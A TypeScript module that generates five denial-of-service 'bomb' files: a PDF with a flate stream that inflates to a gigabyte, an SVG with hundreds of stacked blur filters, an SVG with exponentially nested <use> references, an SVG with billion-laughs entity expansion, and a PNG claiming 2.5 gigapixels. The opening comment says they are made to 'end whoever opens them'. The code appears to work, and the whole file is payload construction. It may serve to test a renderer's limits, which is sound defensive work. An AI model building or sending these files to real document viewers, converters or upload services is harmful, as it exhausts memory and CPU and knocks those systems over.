// Files made to end whoever opens them.
import { crc32, deflateSync } from 'node:zlib';

/** By name. A gigabyte of nothing in a PDF, blurs upon blurs, a page that names itself, a PNG that claims 2.5 gigapixels. */
export function makeBombs(): Map<string, Buffer> {
  return new Map([
    ['flate.pdf', pdfOf(deflateSync(Buffer.alloc(1024 ** 3, ' '), { level: 9 }))],
    ['filters.svg', filterBomb()],
    ['uses.svg', useBomb()],
    ['entities.svg', entityBomb()],
    ['pixels.png', pixelBomb()],
  ]);
}

function pdfOf(stream: Buffer): Buffer {
  const parts = [
    Buffer.from('%PDF-1.4\n'),
    Buffer.from('1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n'),
    Buffer.from('2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n'),
    Buffer.from('3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Contents 4 0 R>>\nendobj\n'),
    Buffer.concat([
      Buffer.from(`4 0 obj\n<</Length ${stream.length}/Filter/FlateDecode>>\nstream\n`),
      stream,
      Buffer.from('\nendstream\nendobj\n'),
    ]),
  ];
  let at = 0;
  const offsets = parts.map(({ length }) => {
    at += length;
    return String(at).padStart(10, '0');
  });
  const table = offsets.slice(0, -1).map((offset) => `${offset} 00000 n \n`);
  return Buffer.concat([
    ...parts,
    Buffer.from(
      `xref\n0 5\n0000000000 65535 f \n${table.join('')}trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  ]);
}

function filterBomb(): Buffer {
  const blurs = Array.from({ length: 400 }, () => '<feGaussianBlur stdDeviation="90"/>').join('');
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><filter id="f" x="-2" y="-2" width="5" height="5">${blurs}</filter><rect width="4000" height="4000" filter="url(#f)"/></svg>`,
  );
}

function useBomb(): Buffer {
  const levels = Array.from(
    { length: 30 },
    (_, i) => `<g id="g${i + 1}"><use href="#g${i}"/><use href="#g${i}"/></g>`,
  );
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><g id="g0"><rect width="9" height="9"/></g>${levels.join('')}</svg>`,
  );
}

function entityBomb(): Buffer {
  const entities = Array.from({ length: 12 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join(
    '',
  );
  return Buffer.from(
    `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e12;</text></svg>`,
  );
}

/** 50,000 by 50,000, black and white. */
function pixelBomb(): Buffer {
  const size = 50_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(size * (1 + size / 8)), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
